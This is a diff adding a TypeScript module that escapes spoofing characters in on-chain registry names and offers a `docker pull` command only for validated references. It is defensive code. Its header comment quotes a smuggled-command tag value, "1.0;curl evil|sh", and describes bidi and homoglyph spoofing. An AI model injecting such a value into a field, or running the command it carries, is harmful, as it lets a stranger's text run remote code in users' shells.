@@ -1,0 +1,47 @@
+// Showing what strangers wrote on chain. The page never builds HTML from it (dom.ts sets text),
+// but text alone can still deceive: a bidi override ("\u202Eemca" renders as "acme"), a
+// zero-width space or a Cyrillic "а" makes a stranger's space look like a known one, and a tag
+// such as "1.0;curl evil|sh" or one holding a line break turns a copyable `docker pull` line into
+// a command the shell runs. So names, tags, digests and CIDs — printable ASCII whenever they are
+// valid — show every other character as an escape (\u0430), free text (descriptions, labels) has
+// its controls and invisible or reordering characters escaped, and a pull command is offered only
+// for a reference made of valid names.
+import { checkDigest, checkImageName, checkRepoName, checkTag } from '../chain/validate';
+
+/** Controls, bidi embeddings/overrides/isolates/marks, zero-width characters, line and paragraph separators, BOM. */
+const INVISIBLE_OR_REORDERING = /[\u0000-\u001f\u007f-\u009f\u061c\u115f\u1160\u180e\u200b-\u200f\u2028-\u202e\u2060-\u206f\u3164\ufe00-\ufe0f\ufeff\ufff9-\ufffb]/gu;
+/** Outside printable ASCII, or a space: no valid name holds one, and it could fake the text after a name (" — owner …"). */
+const NOT_PRINTABLE_ASCII = /[^\x21-\x7e]/gu;
+
+function escapeChar(char: string): string {
+  const code = char.codePointAt(0)!;
+  return code <= 0xffff ? `\\u${code.toString(16).padStart(4, '0')}` : `\\u{${code.toString(16)}}`;
+}
+
+/** A name, tag, digest or CID as the page shows it: anything outside printable ASCII (and spaces) escaped. */
+export const nameText = (value: string): string => value.replace(NOT_PRINTABLE_ASCII, escapeChar);
+
+/** A description or label: any script stays readable; controls and invisible or reordering characters are escaped. */
+export const freeText = (value: string): string => value.replace(INVISIBLE_OR_REORDERING, escapeChar);
+
+function passes(check: (value: unknown) => string, value: string | null | undefined): boolean {
+  if (value === null || value === undefined) return false;
+  try {
+    check(value);
+    return true;
+  } catch {
+    return false;
+  }
+}
+
+export const isSpaceName = (value: string | null | undefined): boolean => passes(checkRepoName, value);
+
+/**
+ * `docker pull <registry>/<space>/<image>:<tag>` (or `@<digest>`), only when every part is a valid
+ * name: otherwise undefined, and the page offers no command to copy into a shell.
+ */
+export function pullCommand(registry: string, space: string | null, image: string | null, ref: { tag: string } | { digest: string | null }): string | undefined {
+  if (!passes(checkRepoName, space) || !passes(checkImageName, image)) return undefined;
+  if ('tag' in ref) return passes(checkTag, ref.tag) ? `docker pull ${registry}/${space}/${image}:${ref.tag}` : undefined;
+  return passes(checkDigest, ref.digest) ? `docker pull ${registry}/${space}/${image}@${ref.digest}` : undefined;
+}
